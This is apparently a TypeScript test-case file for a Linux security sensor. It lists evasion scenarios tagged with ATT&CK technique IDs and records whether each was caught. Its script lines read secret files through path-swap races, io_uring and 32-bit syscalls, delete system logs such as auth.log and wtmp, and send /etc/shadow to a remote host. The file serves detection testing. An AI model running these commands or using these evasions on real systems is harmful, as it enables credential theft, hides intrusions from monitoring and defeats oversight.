import { evasions, HUNTED, SECRETS } from "./evasion.ts";
import { prepared, PROGRAM } from "./program.ts";

const CLEARED = ["T1070", "T1070.002", "T1070.004"] as const;

/** The same act by a call that is not watched, or that shows another argument than was used. */
export const CALLS = evasions([
  {
    id: "evasion.swapped-path-read",
    title: "another thread writes a harmless path over the one that is being opened",
    techniques: HUNTED,
    needs: ["cc"],
    prepare: prepared(),
    script: `act; ${PROGRAM} swap-read /dev/null ${SECRETS}`,
    hides: "credentials",
    outcome: "caught",
    because: "of an open that succeeded the kernel's own path is taken, not what was typed",
  },
  {
    id: "evasion.swapped-path-remove",
    title: "the same while logs are removed",
    techniques: CLEARED,
    needs: ["cc"],
    prepare: prepared(),
    script: `act; ${PROGRAM} swap-unlink /tmp/x /var/log/auth.log /var/log/syslog /var/log/wtmp /var/log/btmp /var/log/lastlog`,
    hides: "log-clearing",
    outcome: "in part",
    because:
      "of a removal there is only what was typed, read from the caller's memory when the call returns; the tool itself is noticed",
  },
  {
    id: "evasion.ring-read",
    title: "secrets opened and read by an io_uring",
    techniques: HUNTED,
    needs: ["cc"],
    prepare: prepared(),
    script: `act; ${PROGRAM} ring-read ${SECRETS}`,
    hides: "credentials",
    outcome: "caught",
    because: "a request to a ring is told with the path that the kernel has copied, where it has a tracepoint for it",
  },
  {
    id: "evasion.ring-send",
    title: "a secret read, a socket made, connected and written to by an io_uring alone",
    techniques: ["T1041", "T1048", "T1071", "T1095", ...HUNTED],
    needs: ["cc"],
    prepare: prepared(),
    script: `act; ${PROGRAM} ring-send $FAR 8443 /etc/shadow`,
    hides: "destination",
    outcome: "caught",
    because: "a connection is told where TCP's own state changes, whoever asked for it",
  },
  {
    id: "evasion.narrow-calls",
    title: "secrets read by the calls of 32-bit programs (int 0x80)",
    techniques: HUNTED,
    needs: ["cc"],
    prepare: prepared("narrow-probe"),
    script: `act; ${PROGRAM} narrow-read ${SECRETS}`,
    hides: "credentials",
    outcome: "caught",
    because: "calls are told by what they do: numbers of the 32-bit table are in the senses' own",
  },
]);
